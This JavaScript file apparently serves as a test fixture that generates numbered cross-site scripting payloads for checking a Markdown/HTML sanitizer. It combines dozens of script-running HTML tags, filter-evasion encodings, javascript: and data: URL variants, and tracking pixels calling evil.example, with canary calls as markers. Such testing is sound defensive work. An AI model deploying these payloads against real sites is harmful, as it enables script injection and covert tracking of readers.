// What somebody writes who wants a script to run in the browser of another, or a request to leave it. Each
// attack has a number of its own; a script of it would call `canary` with that number.
const FOREIGN = 'https://evil.example';

/** Ways to run a script, or to fetch something, by the tags of HTML. */
const TAGS = [
  (run) => `<script>${run}</script>`,
  (run, n) => `<script src="${FOREIGN}/${n}.js"></script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  (run) => `<math><a xlink:href="javascript:${run}">x</a></math>`,
  (run) => `<math><mtext></mtext><style><!--</style><img src onerror=${run}>--></style></math>`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<video src=x onerror=${run}></video>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run, n) => `<object data="${FOREIGN}/${n}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<button form=x formaction="javascript:${run}">x</button>`,
  (run, n) => `<link rel=stylesheet href="${FOREIGN}/${n}.css">`,
  (run, n) => `<style>@import url(${FOREIGN}/${n}.css);</style>`,
  (run, n) => `<p style="background:url(${FOREIGN}/${n})">x</p>`,
  (run, n) => `<img srcset="${FOREIGN}/${n} 2x">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<p onmouseover=${run} style="position:fixed;inset:0">x</p>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
];

/** What is done to a tag so that a filter does not know it, and a browser still does. */
const DRESSES = [
  (tag) => tag,
  (tag) => tag.replace(/<(\w)/g, (_, first) => `<${first.toUpperCase()}`),
  (tag) => tag.replace(/ on(\w)/g, ' oN$1').replace(/javascript/g, 'jAvAsCrIpT'),
  (tag) => tag.replace(/^<(\w+) /, '<$1/'),
  (tag) => tag.replace(/^<(\w+) /, '<$1\t'),
  (tag) => tag.replace(/^<(\w+) /, '<$1\f'),
  (tag) => tag.replace(/=(?=[a-z])/g, ' = '),
  (tag) => tag.replace(/javascript:/g, 'java&Tab;script&colon;'),
  (tag) => tag.replace(/canary/g, '&#99;anary').replace(/javascript/g, '&#x6A;avascript'),
  (tag) => tag.replace(/>$/, ''),
  (tag) => `<${tag}`,
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `-->${tag}<!--`,
  (tag) => `]]>${tag}`,
  (tag) => `</title></textarea></style></script>${tag}`,
  (tag) => `<!--><!-- -->${tag}`,
  (tag) => `<p title="${tag.replaceAll('"', "'")}">`,
  (tag) => tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (tag) => tag.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (tag) => tag.replaceAll('<', '\\<'),
  (tag) => encodeURIComponent(tag),
  (tag) => tag.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (tag) => tag.replace(/^<(\w)/, '<\u00AD$1'),
];

/** Where in Markdown it stands. */
const FORMS = [
  (text) => text,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `## ${text}`,
  (text) => `**${text}**`,
  (text) => `\`${text}\``,
  (text) => `~~~html\n${text}\n~~~`,
  (text) => `| a | b |\n| - | - |\n| ${text.replaceAll('|', '/')} | x |`,
  (text) => `[${text}](https://example.org/)`,
  (text) => `[x](https://example.org/ "${text.replaceAll('"', '\\"')}")`,
  (text) => `<div>\n\n${text}\n\n</div>`,
  (text) => `@priya-raman ${text}`,
];

/** Addresses that are none to go to. */
const ADDRESSES = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `javascript://example.org/%0A${run}`,
  (run) => `java&Tab;script:${run}`,
  (run) => `java&NewLine;script:${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `&#x6A;avascript&colon;${run}`,
  (run) => `%6Aavascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `&#1;javascript:${run}`,
  (run) => `\u00A0javascript:${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,<svg onload=${run}>`,
  (run, n) => `blob:${FOREIGN}/${n}`,
  (run, n) => `filesystem:${FOREIGN}/${n}`,
  (run, n) => `\\\\evil.example\\${n}`,
];

const LINKS = [
  (to) => `[x](${to})`,
  (to) => `[x](<${to}>)`,
  (to) => `<${to}>`,
  (to, n) => `[x][to ${n}]\n\n[to ${n}]: ${to}`,
  (to) => `[x](https://example.org/ ${to})`,
  (to) => `[![x](${to})](${to})`,
];

/** Pictures and the like that would tell another server who reads. */
const PIXELS = [
  (n) => `![x](${FOREIGN}/${n}.png)`,
  (n) => `![x](//evil.example/${n}.png)`,
  (n) => `![x][pixel ${n}]\n\n[pixel ${n}]: ${FOREIGN}/${n}.png`,
  (n) => `![x](/\\evil.example/${n}.png)`,
  (n) => `<img src="//evil.example/${n}.png">`,
  (n) => `<audio autoplay src="${FOREIGN}/${n}.mp3"></audio>`,
];

/** Every attack on a body: no two alike. */
export function bodies() {
  const next = counter();
  const dressed = TAGS.flatMap((tag, row) =>
    DRESSES.map((dress, column) => {
      const n = next();
      return FORMS[(row + column) % FORMS.length](dress(tag(`canary(${n})`, n)));
    }),
  );
  const linked = ADDRESSES.flatMap((address) =>
    LINKS.map((link) => {
      const n = next();
      return link(address(`canary(${n})`, n), n);
    }),
  );
  const all = [...dressed, ...linked, ...PIXELS.map((pixel) => pixel(next()))];
  // What is never closed takes all that follows as its own; it stands last.
  return [...all.filter((text) => !swallows(text)), ...all.filter(swallows)];
}

const swallows = (text) =>
  /^<(script|style|textarea)\b/i.test(text) && !/<\/(script|style|textarea)>/i.test(text);

/** Attacks that fit on a line: for names, titles, purposes and files. */
export function lines(begin, most) {
  const next = counter(begin);
  const each = TAGS.flatMap((tag) =>
    [DRESSES[0], DRESSES[11], DRESSES[15]].map((dress) => {
      const n = next();
      return dress(tag(`canary(${n})`, n));
    }),
  );
  return each.filter((line) => line.length <= most);
}

function counter(begin = 1) {
  let n = begin;
  return () => n++;
}
